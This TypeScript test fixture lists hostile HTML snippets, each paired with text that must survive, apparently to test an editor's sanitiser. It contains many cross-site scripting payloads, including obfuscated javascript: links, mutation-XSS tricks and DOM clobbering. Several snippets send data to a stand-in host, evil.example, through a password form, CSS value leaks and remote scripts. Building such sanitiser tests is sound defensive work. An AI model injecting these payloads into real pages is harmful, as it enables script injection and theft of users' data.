/** Content of a hostile editor, each part with a text that has to stay readable. Written for this project. */
export const hostileParts: readonly (readonly [words: string, html: string])[] = [
  // Scripts and handlers
  ['after script', 'after script<script>alert(1)</script>'],
  ['script elsewhere', '<script src="https://evil.example/x.js"></script>script elsewhere'],
  ['script in halves', '<scr<script>ipt>alert(1)</scr</script>ipt>script in halves'],
  ['script of modules', '<script type="module">alert(1)</script>script of modules'],
  ['handler', '<b onclick="alert(1)" onmouseover="alert(1)" onpointerenter="alert(1)">handler</b>'],
  ['handler in capitals', '<b ONCLICK="alert(1)" oNfOcUs="alert(1)" tabindex="0">handler in capitals</b>'],
  ['handler after a slash', '<img/src="x:1"/onerror="alert(1)"/alt="">handler after a slash'],
  ['handler without quotes', '<img src=`x`onerror=alert(1) alt="">handler without quotes'],
  ['broken picture', '<img src=x onerror=alert(1) alt="">broken picture'],
  [
    'picture that loads',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="alert(1)" alt="">picture that loads',
  ],
  [
    'animation',
    '<p style="animation:x 1s" onanimationstart="alert(1)" ontransitionrun="alert(1)">animation</p>',
  ],
  ['self-focus', '<p autofocus tabindex="0" onfocus="alert(1)" contenteditable>self-focus</p>'],
  ['details', '<details open ontoggle="alert(1)"><summary>details</summary></details>'],
  ['marquee', '<marquee onstart="alert(1)">marquee</marquee>'],
  ['page body', '<body onload="alert(1)" background="https://evil.example/b">page body</body>'],
  ['popover', '<button popovertarget="p" onbeforetoggle="alert(1)">popover</button><p popover id="p">x</p>'],
  // Addresses
  ['script address', '<a href="javascript:alert(1)">script address</a>'],
  ['capital address', '<a href="JaVaScRiPt:alert(1)">capital address</a>'],
  ['tabbed address', '<a href="jav&#9;ascript:alert(1)">tabbed address</a>'],
  ['broken address', '<a href="java\nscript:alert(1)">broken address</a>'],
  ['address in entities', '<a href="&#x6A;avascript&colon;alert(1)">address in entities</a>'],
  ['padded entities', '<a href="&#0000106avascript:alert(1)">padded entities</a>'],
  ['address after a sign', '<a href="&#1;javascript:alert(1)">address after a sign</a>'],
  ['document address', '<a href="data:text/html,<script>alert(1)</script>">document address</a>'],
  ['old script address', '<a href="vbscript:msgbox(1)">old script address</a>'],
  ['blob address', '<a href="blob:https://evil.example/1">blob address</a>'],
  ['bare host', '<a href="//evil.example">bare host</a>'],
  ['backslash host', String.raw`<a href="\/\/evil.example">backslash host</a>`],
  ['false host', '<a href="https://my-air.test@evil.example/">false host</a>'],
  ['turned address', '<a href="https://evil.example/\u202Egpj.exe">turned address</a>'],
  [
    'link with an opener',
    '<a href="https://evil.example/" target="_blank" rel="opener">link with an opener</a>',
  ],
  ['link without rel', '<a href="https://evil.example/" target="_top">link without rel</a>'],
  ['link that pings', '<a href="/help/2" ping="https://evil.example/p" download>link that pings</a>'],
  [
    'link in a drawing',
    '<svg><a xlink:href="javascript:alert(1)"><text>in svg</text></a></svg>link in a drawing',
  ],
  ['link in mathematics', '<math href="javascript:alert(1)">in math</math>link in mathematics'],
  // Namespaces that change how a parser reads
  ['drawing', '<svg onload="alert(1)"><script>alert(1)</script></svg>drawing'],
  ['moving drawing', '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>moving drawing'],
  [
    'foreign drawing',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>foreign drawing',
  ],
  ['borrowed drawing', '<svg><use href="https://evil.example/s.svg#x"/></svg>borrowed drawing'],
  [
    'drawing with a style',
    '<svg></p><style><a title="</style><img src=1 onerror=alert(1)>"></style></svg>drawing with a style',
  ],
  [
    'mathematics',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>mathematics</p>',
  ],
  [
    'annotation',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math><p>annotation</p>',
  ],
  [
    'without scripts',
    '<noscript><img title="</noscript><img src=x onerror=alert(1)>"></noscript>without scripts',
  ],
  ['comment', '<!--><img src=x onerror=alert(1)>-->comment'],
  ['character data', '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>character data'],
  ['template', '<template><script>alert(1)</script></template>template'],
  ['shadow', '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template>shadow</div>'],
  ['custom element', '<x-evil onclick="alert(1)">custom element</x-evil>'],
  // Elements that act, fetch or ask by themselves
  ['frame', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>frame'],
  ['foreign frame', '<iframe src="https://evil.example/embed/abcdef12345"></iframe>foreign frame'],
  ['script frame', '<iframe src="javascript:alert(1)"></iframe>script frame'],
  [
    'object',
    '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="https://evil.example/e">object',
  ],
  [
    'film',
    '<video autoplay poster="https://evil.example/v" onloadstart="alert(1)"><source src="https://evil.example/v" onerror="alert(1)"></video>film',
  ],
  [
    'form',
    '<form action="https://evil.example"><input name="password" type="password"><button formaction="javascript:alert(1)">form</button></form>',
  ],
  [
    'many sources',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="https://evil.example/i 2x" alt="">many sources',
  ],
  [
    'chosen picture',
    '<picture><source srcset="https://evil.example/p"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt=""></picture>chosen picture',
  ],
  ['refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">refresh'],
  [
    'other policy',
    '<meta name="referrer" content="unsafe-url"><meta http-equiv="content-security-policy" content="script-src *">other policy',
  ],
  ['base', '<base href="https://evil.example/" target="_parent">base'],
  [
    'linked sheet',
    '<link rel="stylesheet" href="https://evil.example/a.css"><link rel="prefetch" href="https://evil.example/b">linked sheet',
  ],
  ['style', '<style>body{display:none!important}@import "https://evil.example/s"</style>style'],
  [
    'style that tells',
    '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>style that tells',
  ],
  [
    'position',
    '<p style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/b)">position</p>',
  ],
  [
    'old background',
    '<table background="https://evil.example/t"><tbody><tr><td background="https://evil.example/t">old background</td></tr></tbody></table>',
  ],
  // Names that shadow those that scripts use
  ['heading', '<h2 id="root" name="getElementById" onclick="alert(1)">heading</h2>'],
  [
    'hidden names',
    '<a id="cookie" name="cookie" href="/help/2">hidden names</a><img name="currentScript" id="location" alt="">',
  ],
  ['prototype', '<p id="__proto__" class="dialog" name="attributes">prototype</p>'],
  ['location', '<h2><img src=x onerror=alert(1) alt="">location</h2>'],
  // Attributes that look like ours
  ['zoom', '<button data-zoom><img src="x" onerror="alert(1)" alt="">zoom</button>'],
  ['anchor', '<a data-anchor="x" href="#x" onfocus="alert(1)" autofocus tabindex="1">anchor</a>'],
  ['player', '<button data-play="x&quot; onload=&quot;alert(1)">player</button>'],
  [
    'mention',
    '<span data-type="mention" data-id="1);alert(1" data-label="A" onclick="alert(1)">mention</span>',
  ],
  // Markup without an end must not swallow what follows it
  ['unclosed attribute', 'unclosed attribute<img src="https://evil.example/?'],
];

/** The text of an article made of all parts; each is in an element of its own. */
export const hostileContent = `<h2>First</h2>${hostileParts
  .map(([, html]) => `<div>${html}</div>`)
  .join('')}`;
